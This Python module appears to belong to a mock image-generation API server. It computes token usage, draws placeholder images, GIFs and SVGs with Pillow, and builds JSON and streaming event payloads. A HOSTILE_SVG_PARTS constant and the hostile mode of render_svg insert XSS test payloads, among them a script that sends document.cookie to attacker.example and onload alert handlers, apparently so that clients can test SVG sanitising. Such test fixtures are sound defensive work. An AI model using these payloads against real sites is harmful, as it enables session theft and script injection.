"""What the stand-in answers: token usage, real images made by Pillow, and the JSON and SSE payloads."""

import base64
import colorsys
import dataclasses
import functools
import hashlib
import io
import math
import time
from typing import Any
from xml.sax.saxutils import escape

from PIL import Image, ImageChops, ImageDraw, ImageFont, ImageOps

from standin import provenance
from standin.capabilities import DEFAULT_SVG_AUTHOR, OUTPUT_TOKENS_AT_1024
from standin.faults import PROMPT_FAULT_PATTERN
from standin.validation import ImageJob


def usage_for(job: ImageJob) -> dict[str, Any]:
    text_tokens = max(1, math.ceil(len(job.prompt) / 4))
    per_image = max(1, round(OUTPUT_TOKENS_AT_1024[job.quality] * job.width * job.height / 1024**2))
    if job.output_format == "gif":
        per_image = per_image * job.frame_count // 2  # frames share a plan: half an image's tokens each
    output_tokens = per_image * job.n
    input_tokens = text_tokens + job.input_image_tokens
    return {
        "input_tokens": input_tokens,
        "input_tokens_details": {"text_tokens": text_tokens, "image_tokens": job.input_image_tokens},
        "output_tokens": output_tokens,
        "output_tokens_details": {"image_tokens": output_tokens, "text_tokens": 0},
        "total_tokens": input_tokens + output_tokens,
    }


# --------------------------------------------------------------------------------------------------
# Image making. Colour work happens at 256x256 and is scaled up, so a 4K image costs little more.


def _palette(prompt: str, index: int) -> tuple[tuple[int, int, int], ...]:
    digest = hashlib.sha256(f"{prompt}\x00{index}".encode()).digest()
    hue, spread = digest[0] / 255, 0.18 + digest[1] / 255 * 0.3

    def colour(hue: float, lightness: float, saturation: float) -> tuple[int, int, int]:
        red, green, blue = colorsys.hls_to_rgb(hue % 1.0, lightness, saturation)
        return round(red * 255), round(green * 255), round(blue * 255)

    return colour(hue, 0.58, 0.62), colour(hue + spread, 0.48, 0.55), colour(hue + spread / 2, 0.85, 0.7)


def _gradient(prompt: str, index: int, size: tuple[int, int]) -> Image.Image:
    start, end, glow_colour = _palette(prompt, index)
    vertical = Image.linear_gradient("L")
    diagonal = ImageChops.add(vertical, vertical.transpose(Image.Transpose.ROTATE_270), scale=2.0)
    base = Image.composite(Image.new("RGB", (256, 256), end), Image.new("RGB", (256, 256), start), diagonal)
    # A soft highlight placed by the hash, so images from one prompt feel related but not identical.
    digest = hashlib.sha256(f"glow\x00{prompt}\x00{index}".encode()).digest()
    glow = ImageChops.invert(Image.radial_gradient("L").resize((512, 512), Image.Resampling.BILINEAR))
    left, top = 64 + digest[0] % 192, 64 + digest[1] % 192
    glow_mask = glow.crop((left, top, left + 256, top + 256)).point(lambda value: value * 55 // 100)
    base = Image.composite(Image.new("RGB", (256, 256), glow_colour), base, glow_mask)
    # NEAREST is half the cost of BILINEAR here and looks the same: neighbouring cells of a 256-step
    # gradient differ by at most one level.
    return base.resize(size, Image.Resampling.NEAREST)


def _label(image: Image.Image, box: tuple[int, int, int, int], lines: list[str], at_top: bool) -> None:
    """Draws text lines on a translucent band in a left corner of ``box``, in place."""
    left, top, right, bottom = box
    font_size = max(10, min((bottom - top) // 18, (right - left) // 34))
    margin = max(6, font_size // 2)
    sizes = [round(font_size * 1.3)] + [font_size] * (len(lines) - 1)
    fonts = [ImageFont.load_default(size=size) for size in sizes]  # fresh objects: FreeType is not shared
    widest = max(font.getlength(text) for font, text in zip(fonts, lines, strict=True))
    band_width = min(right - left - 2 * margin, round(widest) + 2 * margin)
    band_height = sum(round(size * 1.25) for size in sizes) + 2 * margin
    band_top = top + margin if at_top else bottom - margin - band_height
    band_box = (left + margin, band_top, left + margin + band_width, band_top + band_height)
    region = image.crop(band_box).convert("RGBA")
    overlay = Image.new("RGBA", region.size, (0, 0, 0, 0))
    draw = ImageDraw.Draw(overlay)
    draw.rounded_rectangle((0, 0, region.width - 1, region.height - 1), radius=margin, fill=(20, 20, 28, 140))
    y = margin
    for font, text, size in zip(fonts, lines, sizes, strict=True):
        draw.text((margin, y), text, font=font, fill=(255, 255, 255, 235))
        y += round(size * 1.25)
    region = Image.alpha_composite(region, overlay)
    image.paste(region if image.mode == "RGBA" else region.convert(image.mode), band_box[:2])


def _cutout_alpha(size: tuple[int, int]) -> tuple[Image.Image, tuple[int, int, int, int]]:
    """Alpha for a transparent background: an opaque rounded card with a clear surround."""
    inset = round(min(size) * 0.1)
    card = (inset, inset, size[0] - inset, size[1] - inset)
    alpha = Image.new("L", size, 0)
    ImageDraw.Draw(alpha).rounded_rectangle(card, radius=inset, fill=255)
    # Labels go inside the straight part of the card, clear of the rounded corners.
    return alpha, (card[0] + inset // 2, card[1] + inset // 2, card[2] - inset // 2, card[3] - inset // 2)


def _excerpt(prompt: str) -> str:
    flat = " ".join(PROMPT_FAULT_PATTERN.sub("", prompt).split())
    return flat if len(flat) <= 60 else flat[:57] + "..."


def render_image(job: ImageJob, index: int) -> Image.Image:
    size = (job.width, job.height)
    tint = _gradient(job.prompt, index, size)
    picture, title = tint, "Atelier demo"
    if job.source is not None:
        source = job.source.convert("RGBA")
        if job.markup is not None:
            source = Image.alpha_composite(source, job.markup)
        source = ImageOps.fit(source.convert("RGB"), size, Image.Resampling.BILINEAR)
        picture, title = Image.blend(source, tint, 0.2), "Atelier demo - edit"
        if job.mask_alpha is not None:
            # Repaint where the mask is clear, so the edited area is visible at a glance.
            mask = ImageOps.fit(job.mask_alpha, size, Image.Resampling.NEAREST)
            edit_area = mask.point(lambda alpha: 255 if alpha == 0 else 0)
            picture = Image.composite(Image.blend(source, tint, 0.75), picture, edit_area)
    box = (0, 0, *size)
    if job.background == "transparent":
        alpha, box = _cutout_alpha(size)
        picture = picture.convert("RGBA")
        picture.putalpha(alpha)
    lines = [title + (f" #{index + 1}" if job.n > 1 else ""), _excerpt(job.prompt)]
    _label(picture, box, [*lines, f"{job.model} | {job.size} | {job.quality}"], at_top=job.source is not None)
    return picture


def encode_image(image: Image.Image, output_format: str, compression: int, model: str = "") -> bytes:
    """The encoded image; with `model`, carrying the stand-in's signed credential (standin.provenance)."""
    buffer = io.BytesIO()
    if output_format == "png":
        image.save(buffer, "PNG", compress_level=1)
    elif output_format == "jpeg":
        image.convert("RGB").save(buffer, "JPEG", quality=max(1, compression))
    else:
        image.save(buffer, "WEBP", quality=compression, method=0)
    return provenance.sign(buffer.getvalue(), output_format, model) if model else buffer.getvalue()


def partial_image(final: Image.Image, partial_index: int, partial_count: int) -> Image.Image:
    """Blurrier the earlier it is, as the real previews are."""
    factor = 2 ** (partial_count - partial_index + 2)
    small_size = (max(1, final.width // factor), max(1, final.height // factor))
    return final.resize(small_size, Image.Resampling.BOX).resize(final.size, Image.Resampling.BILINEAR)


def _b64(data: bytes) -> str:
    return base64.b64encode(data).decode("ascii")


@functools.lru_cache(maxsize=32)
def _generated_b64(job_key: tuple[Any, ...], index: int) -> str:
    job = ImageJob(*job_key)
    return _b64(encode_image(render_image(job, index), job.output_format, job.compression, job.model))


@functools.lru_cache(maxsize=32)
def _stream_payloads(job_key: tuple[Any, ...], partials: int) -> tuple[list[str], str]:
    job = ImageJob(*job_key)
    final = render_image(job, 0)
    previews = [
        _b64(encode_image(partial_image(final, index, partials), job.output_format, 80))
        for index in range(partials)
    ]
    return previews, _b64(encode_image(final, job.output_format, job.compression, job.model))


def stream_payloads(job: ImageJob) -> tuple[list[str], str]:
    """The partial images and the final one, made before the first event so pauses are pure latency."""
    if job.source is None:  # as for plain answers: repeated generations come from a cache
        return _stream_payloads(dataclasses.astuple(job), job.partial_images)
    return _stream_payloads.__wrapped__(dataclasses.astuple(job), job.partial_images)


def render_gif(job: ImageJob, index: int) -> bytes:
    """A real animated GIF: the still, quantised once, with a marker that moves across it frame by frame."""
    base = render_image(job, index).convert("RGB").quantize(colors=255, method=Image.Quantize.MEDIANCUT)
    frames = []
    for frame in range(job.frame_count):
        picture = base.copy()
        draw = ImageDraw.Draw(picture)
        radius = max(8, min(job.width, job.height) // 14)
        x = radius + (job.width - 2 * radius) * frame // max(1, job.frame_count - 1)
        y = job.height // 2
        draw.ellipse((x - radius, y - radius, x + radius, y + radius), fill=255)
        frames.append(picture)
    base.putpalette([*base.getpalette()[: 255 * 3], 255, 255, 255])
    for picture in frames:
        picture.putpalette(base.getpalette())
    buffer = io.BytesIO()
    frames[0].save(
        buffer,
        "GIF",
        save_all=True,
        append_images=frames[1:],
        duration=job.frame_duration_ms,
        loop=0,
        optimize=False,
        disposal=1,
    )
    return buffer.getvalue()


HOSTILE_SVG_PARTS = (
    '<script>fetch("https://attacker.example/steal?c=" + document.cookie)</script>'
    '<foreignObject width="100" height="40"><iframe xmlns="http://www.w3.org/1999/xhtml" '
    'src="https://attacker.example/"></iframe></foreignObject>'
    '<image href="https://attacker.example/pixel.png" width="1" height="1"/>'
    '<a href="javascript:alert(1)"><rect x="0" y="0" width="40" height="40" fill="red"/></a>'
    '<style>@import url("https://attacker.example/x.css");</style>'
)


def render_svg(job: ImageJob) -> str:
    """A real SVG of the request (and, for the hostile marker, script and external references)."""
    start, end, glow = (f"rgb{colour}" for colour in _palette(job.prompt, 0))
    hostile = job.hostile_svg
    title = escape(_excerpt(job.prompt))
    parts = [
        f'<svg xmlns="http://www.w3.org/2000/svg" width="{job.width}" height="{job.height}" '
        f'viewBox="0 0 {job.width} {job.height}"'
        + (' onload="alert(document.domain)"' if hostile else "")
        + ">",
        f"<title>{title}</title>",
        '<defs><linearGradient id="bg" x1="0" y1="0" x2="1" y2="1">'
        f'<stop offset="0" stop-color="{start}"/><stop offset="1" stop-color="{end}"/>',
        "</linearGradient></defs>",
        f'<rect width="{job.width}" height="{job.height}" fill="url(#bg)"/>',
        f'<circle cx="{job.width * 0.68:.0f}" cy="{job.height * 0.35:.0f}" '
        f'r="{min(job.width, job.height) * 0.2:.0f}" '
        f'fill="{glow}" opacity="0.8"' + (' onclick="alert(1)"' if hostile else "") + "/>",
        f'<path d="M0 {job.height * 0.8:.0f} Q {job.width / 2:.0f} {job.height * 0.6:.0f} {job.width} '
        f'{job.height * 0.8:.0f} L {job.width} {job.height} L 0 {job.height} Z" fill="rgba(0,0,0,0.25)"/>',
        '<text x="32" y="64" font-family="sans-serif" font-size="36" fill="#fff">Atelier demo SVG</text>',
        f'<text x="32" y="110" font-family="sans-serif" font-size="22" fill="#fff">{title}</text>',
    ]
    if hostile:
        parts.append(HOSTILE_SVG_PARTS)
    parts.append("</svg>")
    return "".join(parts)


def svg_usage_for(job: ImageJob) -> dict[str, Any]:
    """The SVG author's own usage (images_response.SvgUsage); its reasoning is part of its output."""
    effort_tokens = {
        "none": 0,
        "minimal": 200,
        "low": 800,
        "medium": 2000,
        "high": 4000,
        "xhigh": 6000,
        "max": 8000,
    }
    reasoning = effort_tokens.get(job.svg_effort or "medium", 2000)
    input_tokens = max(1, math.ceil(len(job.prompt) / 4)) + 1200
    output_tokens = 1500 + reasoning
    return {
        "input_tokens": input_tokens,
        "model": job.svg_model or DEFAULT_SVG_AUTHOR,
        "output_tokens": output_tokens,
        "reasoning_tokens": reasoning,
        "total_tokens": input_tokens + output_tokens,
    }


def final_image_b64(job: ImageJob, index: int) -> str:
    if job.output_format == "gif":
        return _b64(render_gif(job, index))
    if job.output_format == "svg":
        return _b64(render_svg(job).encode())
    if job.source is None:  # generations are pure functions of their parameters: cache repeated prompts
        key = (job.model, job.prompt, job.n, job.width, job.height, job.quality, job.background)
        return _generated_b64((*key, job.output_format, job.compression), index)
    return _b64(encode_image(render_image(job, index), job.output_format, job.compression, job.model))


# --------------------------------------------------------------------------------------------------
# Payloads. The server decides when each is sent; these decide what is in it.


def image_body(job: ImageJob) -> dict[str, Any]:
    """The JSON answer of a plain (not streamed) request."""
    body = {
        "created": int(time.time()),
        "data": [{"b64_json": final_image_b64(job, index)} for index in range(job.n)],
        "background": job.background,
        "output_format": job.output_format,
        "size": job.size,
        "quality": job.quality,
        "usage": usage_for(job),
    }
    if job.safety_identifier:
        body["safety_identifier"] = job.safety_identifier
    if job.output_format == "svg":
        body["svg_usage"] = svg_usage_for(job)
    return body


def _event_settings(job: ImageJob) -> dict[str, Any]:
    settings = {"background": job.background, "output_format": job.output_format}
    return settings | {"quality": job.quality, "size": job.size}


def partial_event(job: ImageJob, event_prefix: str, partial_index: int, preview_b64: str) -> dict[str, Any]:
    event = {"type": f"{event_prefix}.partial_image", "b64_json": preview_b64}
    return event | {
        "created_at": int(time.time()),
        **_event_settings(job),
        "partial_image_index": partial_index,
    }


def completed_event(job: ImageJob, event_prefix: str, final_b64: str) -> dict[str, Any]:
    usage = usage_for(job)
    del usage["output_tokens_details"]  # the completed events document usage without it
    event = {"type": f"{event_prefix}.completed", "b64_json": final_b64}
    event |= {"created_at": int(time.time()), **_event_settings(job), "usage": usage}
    if job.safety_identifier:
        event["safety_identifier"] = job.safety_identifier
    return event
